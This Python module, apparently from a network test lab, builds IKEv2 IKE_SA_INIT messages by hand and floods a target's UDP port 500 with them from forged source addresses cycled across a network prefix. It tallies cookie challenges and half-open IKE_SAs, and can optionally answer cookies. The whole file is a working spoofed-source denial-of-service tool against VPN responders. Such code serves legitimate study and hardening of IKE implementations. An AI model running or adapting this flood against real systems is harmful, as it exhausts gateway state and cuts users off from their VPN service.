"""IKE_SA_INITs of nonexistent clients: RFC 7296 by hand, from addresses of the sender's choice."""

from __future__ import annotations

import ipaddress
import itertools
import os
import select
import socket
import struct
from collections.abc import Iterator

from lab.nodes.namespace import packet_socket

NOTIFY, SA, KE, NONCE = 41, 33, 34, 40
COOKIE = 16390
_AT_ONCE = 16
_PATIENCE = 1.0
"""Seconds for the answers to so many."""


def _payload(following: int, body: bytes) -> bytes:
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def _transform(last: bool, kind: int, number: int, attributes: bytes = b"") -> bytes:
    return (
        struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number)
        + attributes
    )


def _proposal() -> bytes:
    """AES-CBC-256, HMAC-SHA2-256, its PRF, and modp2048."""
    transforms = (
        _transform(False, 1, 12, struct.pack("!HH", 0x800E, 256))
        + _transform(False, 3, 12)
        + _transform(False, 2, 5)
        + _transform(True, 4, 14)
    )
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 4) + transforms


def init(spi: bytes, cookie: bytes = b"") -> bytes:
    """One message; the public value is random, its logarithm unknown."""
    public = b"\x01" + os.urandom(255)
    payloads = (
        _payload(KE, _proposal())
        + _payload(NONCE, struct.pack("!HH", 14, 0) + public)
        + _payload(0, os.urandom(32))
    )
    first = SA
    if cookie:
        payloads = _payload(SA, struct.pack("!BBH", 0, 0, COOKIE) + cookie) + payloads
        first = NOTIFY
    header = struct.pack("!8s8sBBBBII", spi, bytes(8), first, 0x20, 34, 8, 0, 28 + len(payloads))
    return header + payloads


def addresses(network: str) -> Iterator[str]:
    """The prefix's hosts, repeated for ever."""
    return itertools.cycle(map(str, ipaddress.ip_network(network).hosts()))


class Flood:
    """Sends from the node in which it is made; sees the answers on that node's links."""

    def __init__(self, target: str) -> None:
        self._target = target
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._seen = packet_socket()
        self.cookies = self.answers = 0
        """Requests for a cookie, and whole answers: each is a half-open IKE_SA."""

    def run(self, count: int, sources: Iterator[str], *, honest: bool = False) -> None:
        """Send this many; `honest`: with the requested cookie."""
        left = count
        while left > 0:
            waiting = {}
            for _ in range(min(_AT_ONCE, left)):
                spi, source = os.urandom(8), next(sources)
                waiting[spi] = source
                self._send(source, init(spi))
            left -= len(waiting)
            while waiting and (answer := self._answer()):
                spi, cookie = answer
                source = waiting.pop(spi, "")
                if not source:
                    continue
                if cookie:
                    self.cookies += 1
                    if honest:
                        waiting[spi] = source
                        self._send(source, init(spi, cookie))
                else:
                    self.answers += 1

    def close(self) -> None:
        """Close the sockets."""
        self._raw.close()
        self._seen.close()

    def _send(self, source: str, message: bytes) -> None:
        udp = struct.pack("!HHHH", 500, 500, 8 + len(message), 0) + message
        ends = socket.inet_aton(source) + socket.inet_aton(self._target)
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
        self._raw.sendto(head + ends + udp, (self._target, 0))

    def _answer(self) -> tuple[bytes, bytes] | None:
        """The next answer's SPI and cookie; None: there are no more."""
        while True:
            if not select.select([self._seen], [], [], _PATIENCE)[0]:
                return None
            frame = self._seen.recv(65536)
            ip = frame[14:]
            if len(ip) < 60 or ip[9] != 17 or ip[12:16] != socket.inet_aton(self._target):
                continue
            message = ip[28:]
            if message[18] != 34:
                continue
            cookie = b""
            if message[16] == NOTIFY and struct.unpack("!H", message[34:36])[0] == COOKIE:
                cookie = message[36 : 32 + struct.unpack("!H", message[30:32])[0] - 4]
            return message[:8], cookie
